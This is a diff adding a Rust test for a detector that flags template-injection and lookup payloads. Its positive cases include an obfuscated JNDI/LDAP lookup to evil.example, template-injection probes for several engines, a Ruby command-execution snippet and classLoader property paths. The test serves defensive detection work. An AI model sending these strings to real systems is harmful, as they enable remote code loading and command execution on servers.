@@ -309,3 +309,40 @@ fn finds_command_lines_of_windows_and_calls_that_run_what_they_decode() {
         assert_eq!(rule_of(value), None, "{value}");
     }
 }
+
+#[test]
+fn finds_names_of_lookups_in_parts_and_what_templates_reach_otherwise() {
+    assert_found(
+        Class::Template,
+        &[
+            "${j${k8s:k5:-nd}i:ldap://evil.example/a}",
+            "${docker:containerId}",
+            "${script:javascript:7*7}",
+            "#set($x=7*7)$x",
+            "#evaluate(\"x\")",
+            "${.data_model}",
+            "%{(#a=@org.example.A@b(1))}",
+            "{{lookup . \"constructor\"}}",
+            "<%= Dir.entries('/') %>",
+            "#{%x(id)}",
+            "{%print(7*7)%}",
+            "{{config}}",
+            "{{ self }}",
+            "class.module.classLoader.resources.context",
+            "class.classLoader.urls[0]=x",
+        ],
+    );
+    for value in [
+        "${a${b}}",
+        "${a.${b:c}.d}",
+        "# set (a) of things",
+        "#settings and #events",
+        "{{configuration}}",
+        "see {{config}} for it",
+        "{% include \"a\" %}",
+        "this.class.classLoader.getResource(\"a\")",
+        "Class of 2024",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
